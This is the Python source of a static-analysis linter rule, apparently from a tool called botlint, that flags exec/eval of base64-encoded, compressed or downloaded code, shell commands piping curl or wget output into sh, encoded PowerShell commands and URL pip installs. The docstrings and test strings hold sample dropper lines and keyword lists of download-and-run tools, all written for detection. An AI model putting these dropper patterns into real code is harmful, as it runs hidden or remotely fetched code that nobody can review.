"""BOT501: exec/eval/compile of code that is decoded, decompressed or downloaded."""
from __future__ import annotations

import base64
import re
from typing import Dict, List, Optional, Set, Tuple

import libcst as cst

from ...analysis import payloads
from ...analysis.imports import ImportMap
from ...model import Severity
from ...analysis.literals import literal_str
from ._family import CODE_BUILTINS, PROCESS, Bot5Walk, Names, obfuscated_str, restricted, strings_in
from .bot502_obfuscated_import import HOW

from ...gates.bot5 import BOT501 as PRECHECK  # noqa: E402 (the rule's gate, libcst-free)


class ExecOfDecodedCode(Bot5Walk):
    """## What it does
    Finds `exec()`, `eval()` and `compile()` (also reached through an alias, `builtins.exec`,
    `getattr(builtins, "exec")`, `__import__("builtins").exec` or `__builtins__["exec"]`, and
    `types.FunctionType` of a code object) whose code is decoded (base64,
    base32, base85, hex, `bytes.fromhex`, rot13), decompressed (zlib, gzip, bz2, lzma),
    unmarshalled (`marshal.loads`) or downloaded (`urlopen(...).read()`,
    `requests.get(...).text`), directly or through variables; `pickle.loads` of a pickle
    hidden in the code (base64, hex...); `python -c` with decoded code; shell commands that fetch and run a script
    (`curl ... | sh`, PowerShell `IEX`), or hide it (PowerShell `-EncodedCommand`, `echo ... | base64 -d |
    sh`); `pip install` of a `git+`/archive URL (its build code runs on the spot); a program a function
    downloads and then starts, or a downloaded file run through `runpy.run_path` or
    `importlib.util.spec_from_file_location`.  When the layers are literals,
    botlint undoes them statically (at most 8 layers, 1 MB each; it never runs, imports or
    unmarshals anything) and says what the hidden code does: the modules it imports, the
    kinds of host it contacts.

    ## Why is this bad?
    This is the dropper of nearly every malicious "profit bot" and crypto-stealing package:
    the visible code trades or does nothing, and one line runs a payload nobody can review,
    often fetched from the author's server at run time so it can change after you audited it.
    No trading bot needs to execute encoded or downloaded code.

    ## Example
    ```python
    import base64, zlib
    exec(zlib.decompress(base64.b64decode("eJzLzE0...")))
    ```

    ## Use instead
    ```python
    from strategies import grid  # code you can read, imported normally
    ```

    ## Known problems
    Layers are followed through names bound anywhere in the module and through the module's
    own helpers (a lambda or a function whose `return` gives the layers: `exec(_load())`),
    not across modules.  A
    restricted `eval(expr, {"__builtins__": {}}, {})`, `ast.literal_eval`, `DataFrame.eval`
    and `re.compile` are not reported.  `exec(open("version.py").read())` (a local file) is
    not reported.

    ## References
    - [CWE-95: Eval Injection](https://cwe.mitre.org/data/definitions/95.html)
    - [Checkmarx: the W4SP stealer's layered PyPI droppers](https://checkmarx.com/blog/wasp-attack-on-python-polymorphic-malware-shipped-into-pypi/)
    """

    CODE = "BOT501"
    NAME = "exec-of-decoded-code"
    SEVERITY = Severity.CRITICAL
    CWE = 95
    MESSAGE = "Code that is decoded, decompressed or downloaded is executed"
    PRECHECK = PRECHECK
    VALID = (
        'import ast\nvalue = ast.literal_eval(text)\n',
        'import pandas as pd\ndf = pd.DataFrame()\ndf.eval("a + b")\n',
        'import re\npattern = re.compile(r"\\d+")\n',
        'result = eval(expr, {"__builtins__": {}}, {})\n',
        'exec(open("mypkg/version.py").read())\n',
        'import base64, hmac, hashlib\nkey = base64.b64decode(secret)\nsig = hmac.new(key, msg, hashlib.sha256)\n',
    )
    INVALID = (
        'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImxzIik="))\n',
        'import requests\ncode = requests.get("https://example.net/x.py").text\nexec(code)\n',
        'import builtins, marshal\ngetattr(builtins, "exec")(marshal.loads(blob))\n',
    )

    def __init__(self, ctx) -> None:
        super().__init__(ctx)
        self.calls: List[Tuple[cst.Call, int]] = []  # (call, id of its top-level function or 0)
        self.func_stack: List[cst.FunctionDef] = []
        self.module_names: Set[str] = set()  # names bound at module level (a download path constant)

    def _runs_unasked(self, scope: int) -> bool:
        """A URL install is judged where code runs unasked (module top level, a package's
        ``__init__``, ``setup.py``, ``conftest.py``): a bot's own install script that fetches
        a TA-Lib wheel from a URL in a function is the user's choice to run."""
        path = str(getattr(self.ctx, "path", "") or "").replace("\\", "/")
        return scope == 0 or path.rsplit("/", 1)[-1] in _UNASKED_FILES

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        super().visit_FunctionDef(node)
        self.func_stack.append(node)

    def visit_Assign(self, node: cst.Assign) -> None:
        super().visit_Assign(node)
        if not self.func_stack:
            self.module_names.update(t.target.value for t in node.targets if isinstance(t.target, cst.Name))

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        self.func_stack.pop()

    def visit_Call(self, node: cst.Call) -> None:
        self.calls.append((node, id(self.func_stack[0]) if self.func_stack else 0))

    def leave_Module(self, original_node: cst.Module) -> None:
        un = None
        for call, _ in self.calls:
            which = self.code_builtin(call.func)
            if which is None or not call.args or call.args[0].keyword is not None:
                continue
            if which == "eval" and restricted(call):
                continue
            un = un or self.unwrapper()
            payload = un.payload(call.args[0].value)
            message = describe(which, payload)
            if not message:
                _text, how = obfuscated_str(call.args[0].value, self.names)
                if how in ("chr codes", "reversed"):
                    message = f"{which}() runs code built from {HOW[how]}: hidden so nobody reads it"
                elif _text and which in ("exec", "eval", "compile"):
                    message = _literal_stage(which, _text)
            if message:
                self.report(call, message)
        un = un or self.unwrapper()
        fetched: Dict[int, Set[str]] = {}  # scope -> what the downloads were saved as (literals, names)
        shared: Set[str] = set()  # what downloads were saved as that every function can name
        # each call's dotted name once: both passes below ask (every call of a large module)
        qualified = {id(call): self.qualify(call.func) or "" for call, _scope in self.calls}
        for call, scope in self.calls:
            saved = self._saves_download(call, un, qualified[id(call)])
            if saved:
                fetched.setdefault(scope, set()).update(saved)
                shared.update(r for r in saved if r.startswith("'") or r in self.module_names)
        for call, scope in self.calls:
            name = qualified[id(call)]
            if name in PROCESS:
                installs = _url_install(call, name) if self._runs_unasked(scope) else ""
                message = self._interpreter(call, name, un) or _shell_downloader(call, name) or _encoded_shell(
                    call, name) or installs or self._hidden_command(
                    call, name, un) or (
                    f"{name}() starts a program this function downloads: the code it runs was never in the bot"
                    if scope in fetched and _names_one_of(call, fetched[scope]) else
                    f"{name}() starts a program another function of this module downloads: the code it runs was "
                    "never in the bot" if _starts(call, shared) else "")
            elif name in _LOADERS and (scope in fetched and _names_one_of(call, fetched[scope]) or _loads(
                    call, shared, _LOADERS[name])):
                message = (f"{name}() runs a file downloaded at run time: the code it runs was never in the bot "
                           "and can change after you reviewed it")
            elif name in _UNPICKLE and call.args:
                payload = un.payload(call.args[0].value)
                # a pickle hidden in the code itself (unpickling runs it); a pickle a service
                # sends (hummingbot's order-book snapshots) is a deserialisation risk, not a dropper
                message = (f"{name}() loads a pickle hidden under {payloads.layer_text(payload.layers)}: "
                           "unpickling runs code") if payload.decoded and payload.data is not None else ""
            else:
                message = ""
            if message:
                self.report(call, message)

    def _saves_download(self, call: cst.Call, un: payloads.Unwrapper, name: Optional[str] = None) -> Set[str]:
        """What a download is saved as (path literals and names): ``urlretrieve(url, path)``,
        ``wget.download(url, out=path)``, ``f.write(requests.get(url).content)`` with ``f`` an
        ``open(path, "wb")``.  Empty when the call saves no download.  ``name``: the call's
        dotted name when the caller has it."""
        name = (self.qualify(call.func) or "") if name is None else name
        if name in ("urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"):
            return _refs(call.args[1].value) if len(call.args) > 1 else set()
        func = call.func
        if not (isinstance(func, cst.Attribute) and func.attr.value in ("write", "write_bytes") and call.args
                and un.payload(call.args[0].value).downloaded):
            return set()
        target = func.value
        if isinstance(target, cst.Name):
            opened = next((v for v in self.names.values.get(target.value, []) if isinstance(v, cst.Call)), None)
            if opened is not None and opened.args:
                return _refs(opened.args[0].value)
            return set()
        return _refs(target)

    def _hidden_command(self, call: cst.Call, name: str, un: payloads.Unwrapper) -> str:
        """``os.system(b64decode(CMD).decode())``: a command line hidden under an encoding."""
        if not call.args or call.args[0].keyword is not None:
            return ""
        payload = un.payload(call.args[0].value)
        if not payload.decoded or payload.data is None:
            return ""
        return (f"{name}() runs a command hidden under {payloads.layer_text(payload.layers)}: "
                "nobody can read what it starts")

    def _interpreter(self, call: cst.Call, name: str, un: payloads.Unwrapper) -> str:
        """``subprocess.run([sys.executable, "-c", decoded])``: decoded or downloaded code run in
        a new interpreter."""
        if not call.args:
            return ""
        first = call.args[0].value
        items = [el.value for el in first.elements] if isinstance(first, (cst.List, cst.Tuple)) else [
            a.value for a in call.args if a.keyword is None]
        if not any(literal_str(i) == "-c" for i in items):
            return ""
        for item in items:
            payload = un.payload(item)
            if payload.decoded or payload.downloaded or payload.layers:
                message = describe("the interpreter", payload)
                return f"{name}() starts Python with -c: " + message.replace("the interpreter() runs", "it runs")
        return ""


# what runs a Python file it is given (the path argument) -> its index
_LOADERS = {"runpy.run_path": 0, "importlib.util.spec_from_file_location": 1,
            "importlib.machinery.SourceFileLoader": 1, "imp.load_source": 1, "imp.load_module": 1}


def _loads(call: cst.Call, refs: Set[str], i: int) -> bool:
    """Is the file a loader runs (its path argument, the ``i``-th) one of ``refs`` (a download
    saved under a path constant of the module, in another function)?"""
    args = [a.value for a in call.args if a.keyword is None]
    if not refs or len(args) <= i:
        return False
    return bool(_refs(args[i]) & refs) and isinstance(args[i], (cst.Name, cst.SimpleString))


_UNPICKLE = ("pickle.loads", "dill.loads", "cloudpickle.loads", "_pickle.loads")
_FETCHERS = ("curl", "wget", "iwr ", "invoke-webrequest", "downloadstring", "downloadfile", "certutil", "bitsadmin",
             "urlretrieve", "urlopen")
_RUNNERS = ("| sh", "|sh", "| bash", "|bash", "| python", "|python", "iex", "invoke-expression", "&& ./", "; ./",
            "chmod +x", "start-process", ".exe", "exec(")


def _refs(node: cst.CSTNode) -> Set[str]:
    """The literals and names an expression is made of (a path and the variables building it)."""
    out: Set[str] = set()
    stack = [node]
    while stack and len(out) < 32:
        n = stack.pop()
        if isinstance(n, cst.SimpleString):
            text = literal_str(n)
            if text and len(text) >= 3:
                out.add("'" + text)
        elif isinstance(n, cst.Name):
            out.add(n.value)
        else:
            stack.extend(n.children)
    return out


def _names_one_of(call: cst.Call, refs: Set[str]) -> bool:
    """Does the process call name the saved download (its path literal or a name holding it)?"""
    mine = set()
    for a in call.args:
        mine |= _refs(a.value)
    return bool(mine & refs) or any(r.startswith("'") and r[1:] in strings_in(call) for r in refs)


def _starts(call: cst.Call, refs: Set[str]) -> bool:
    """Is the program a process call starts (its first argument, or the first item of its
    argument list) one of ``refs``: a download saved under a path constant of the module and
    started from another function (``_fetch()`` writes ``_DEST``, ``_launch()`` runs it)?"""
    if not refs or not call.args or call.args[0].keyword is not None:
        return False
    first = call.args[0].value
    if isinstance(first, (cst.List, cst.Tuple)):
        if not first.elements:
            return False
        first = first.elements[0].value
    return bool(_refs(first) & refs) and isinstance(first, (cst.Name, cst.SimpleString))


def _shell_downloader(call: cst.Call, name: str) -> str:
    """``os.system("curl -s https://x/s.sh | sh")``: a command that fetches code and runs it;
    ``echo <base64> | base64 -d | bash``: a command line decoded by the shell and run."""
    text = strings_in(call).lower()
    if any(f in text for f in _FETCHERS) and any(r in text for r in _RUNNERS):
        return f"{name}() runs a command that downloads code and runs it: it can change after you reviewed the bot"
    squeezed = " ".join(_command_words(call)).lower()
    if any(d in squeezed for d in _SHELL_DECODERS) and _PIPE_TO_SHELL.search(squeezed):
        return f"{name}() runs a command line the shell decodes first (base64 -d | sh): nobody can read what it starts"
    return ""


_SHELL_DECODERS = ("base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d", "openssl base64 -d")
# the decoded text piped into a shell or an interpreter (not redirected into a file)
_PIPE_TO_SHELL = re.compile(r"\|\s*(?:sudo\s+)?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b|\|\s*python[0-9.]*\b|"
                            r"\|\s*perl\b|\|\s*(?:powershell|pwsh|iex)\b")


def _command_words(call: cst.Call, limit: int = 64) -> List[str]:
    """The words of a command's literal strings in the order written (``strings_in`` gives
    them as a set would)."""
    out: List[str] = []
    stack: List[cst.CSTNode] = [a.value for a in reversed(call.args)]
    while stack and len(out) < limit:
        n = stack.pop()
        if isinstance(n, cst.SimpleString):
            out.extend((literal_str(n) or "").split())
        elif isinstance(n, cst.FormattedStringText):
            out.extend(n.value.split())
        else:
            stack.extend(reversed(n.children))
    return out


_PS_ENCODED = ("-enc", "-encodedcommand", "-ec", "-e", "-en", "-encod", "-encoded", "-encodedcomman")


def _encoded_shell(call: cst.Call, name: str) -> str:
    """``subprocess.Popen(["powershell", "-w", "hidden", "-enc", "SQBFAFgA..."])``: a PowerShell
    command passed base64-encoded, so nobody reading the code sees what it runs."""
    words = _command_words(call)
    low = [w.lower().strip("\"'") for w in words]
    if not any(w.rsplit("\\", 1)[-1].rsplit("/", 1)[-1] in ("powershell", "powershell.exe", "pwsh", "pwsh.exe")
               for w in low):
        return ""
    for i, w in enumerate(low[:-1]):
        if w.replace("/", "-", 1) in _PS_ENCODED or w.startswith("-enc"):
            blob = words[i + 1].strip("\"'")
            try:
                text = base64.b64decode(blob, validate=True).decode("utf-16-le")
            except (ValueError, UnicodeDecodeError):
                continue
            if len(text) < 4:
                continue
            low_text = text.lower()
            fetches = any(f in low_text for f in _FETCHERS) or "http" in low_text
            return (f"{name}() runs a PowerShell command hidden under base64 ({len(text)} characters decoded)"
                    + (": the decoded command downloads code and runs it" if fetches else
                       ": nobody can read what it starts"))
    return ""


_INSTALLERS = ("pip", "pip3", "pip.exe", "pip3.exe")
# files whose code runs without being asked to: on install, on import of the package, on pytest
_UNASKED_FILES = ("setup.py", "__init__.py", "conftest.py", "sitecustomize.py", "usercustomize.py")


def _url_install(call: cst.Call, name: str) -> str:
    """``subprocess.check_call([sys.executable, "-m", "pip", "install", "git+https://..."])``: a
    package installed from a repository or archive URL, not from an index: its build code runs
    on the spot, fetched from wherever the author points it."""
    words = [w.strip("\"'") for w in _command_words(call)]
    low = [w.lower() for w in words]
    if "install" not in low or not any(w.rsplit("/", 1)[-1] in _INSTALLERS for w in low[:low.index("install")]):
        return ""
    for w in low[low.index("install") + 1:]:
        if w.startswith(("git+", "hg+", "svn+", "bzr+")) or w.startswith(("http://", "https://")) and (
                w.endswith((".zip", ".tar.gz", ".tgz", ".whl", ".tar.bz2", ".git")) or "/archive/" in w):
            return (f"{name}() installs a package from a URL ({_host(w)}), not from an index: its setup code "
                    "runs on the spot and can change after you reviewed the bot")
    return ""


def _host(url: str) -> str:
    rest = url.split("://", 1)[-1]
    return rest.split("/", 1)[0].split("@")[-1] or "?"


def describe(which: str, payload: payloads.Payload) -> str:
    """The finding's message for ``which`` run on ``payload``, or "" when nothing is hidden."""
    if not (payload.decoded or payload.downloaded or payload.layers):
        return ""
    if payload.downloaded:
        return f"{which}() runs code downloaded at run time" + (
            f" (then {payloads.layer_text([x for x in payload.layers if x != payloads.DOWNLOAD])})"
            if len(payload.layers) > 1 else "") + ": it can change after you reviewed the bot"
    layers = payloads.layer_text(payload.layers)
    if payload.data is None:
        if payload.layers[-1:] == [payloads.MARSHAL]:
            return f"{which}() runs a marshalled code object ({layers}): compiled code nobody can review"
        if payloads.DECRYPT in payload.layers:
            return f"{which}() runs code decrypted at run time ({layers}): nobody can review it"
        return f"{which}() runs code decoded at run time ({layers})"
    size = f"{len(payload.data):,}{'+' if payload.truncated else ''} bytes"
    data, stages = payload.data, []
    for _ in range(MAX_STAGES):
        inner = _inner_stage(data)
        if inner is None or inner.data is None:
            break
        stages.append(payloads.layer_text(inner.layers))
        data = inner.data
    nested = "".join(f", then a second stage under {st}" if i == 0 else f", then {st}" for i, st in enumerate(stages))
    what = payloads.summarize(data)
    return (f"{which}() runs a payload hidden under {layers} ({size} decoded){nested}"
            + (f": the decoded payload {what}" if what else ""))


def _literal_stage(which: str, text: str) -> str:
    """``exec("import zlib,base64;exec(zlib.decompress(base64.b64decode('...')))")``: code
    written as a string whose own code decodes and runs a hidden payload (the wrapper is
    readable, what it runs is not)."""
    inner = _inner_stage(text.encode("utf-8", "replace"))
    if inner is None or inner.data is None:
        return ""
    return describe(which, inner).replace(f"{which}() runs", f"{which}() runs a code string that runs", 1)


MAX_STAGES = 3  # payloads that decode and exec another payload, followed this deep
_MAX_STAGE_SIZE = 256 * 1024


def inner_stages(data: bytes) -> List[bytes]:
    """The decoded text of each stage a decoded payload runs in turn (its own
    ``exec(b64decode(...))`` and so on, ``MAX_STAGES`` deep): what the audit reads hosts and
    harvesting from, as this rule's message describes them."""
    out: List[bytes] = []
    for _ in range(MAX_STAGES):
        inner = _inner_stage(data)
        if inner is None or inner.data is None:
            break
        out.append(inner.data)
        data = inner.data
    return out


def _inner_stage(data: bytes) -> Optional[payloads.Payload]:
    """The payload a decoded payload itself executes (``exec(b64decode(...))`` inside), read
    by parsing the decoded text (libcst, never ``compile``): None when it has none."""
    if len(data) > _MAX_STAGE_SIZE or not payloads.looks_like_code(data) or not any(
            w in data for w in (b"exec", b"eval", b"compile")):
        return None
    from ...text import MAX_BRACKET_DEPTH, bracket_depth

    text = data.decode("utf-8", "replace")
    if bracket_depth(text) > MAX_BRACKET_DEPTH:
        return None  # what would overflow libcst's native parser in a file is refused here too
    try:
        module = cst.parse_module(text)
    except Exception:  # noqa: BLE001 - not Python, or not valid: nothing to follow
        return None
    names, imports, calls = Names(), ImportMap(), _Calls()
    try:
        module.visit(_Imports(imports))
        cst.visit_batched(module, [names, calls])
    except RecursionError:
        return None
    unwrapper = payloads.Unwrapper(names.values, imports.resolve)
    for call in calls.calls:
        func = call.func
        if isinstance(func, cst.Name) and func.value in CODE_BUILTINS and call.args:
            found = unwrapper.payload(call.args[0].value)
            if found.data is not None and found.decoded:
                return found
    return None


class _Imports(cst.CSTVisitor):
    def __init__(self, imports: ImportMap) -> None:
        super().__init__()
        self.imports = imports

    def visit_Import(self, node: cst.Import) -> None:
        self.imports.add_import(node)

    def visit_ImportFrom(self, node: cst.ImportFrom) -> None:
        self.imports.add_import_from(node)


class _Calls(cst.BatchableCSTVisitor):
    def __init__(self) -> None:
        super().__init__()
        self.calls: List[cst.Call] = []

    def visit_Call(self, node: cst.Call) -> None:
        self.calls.append(node)
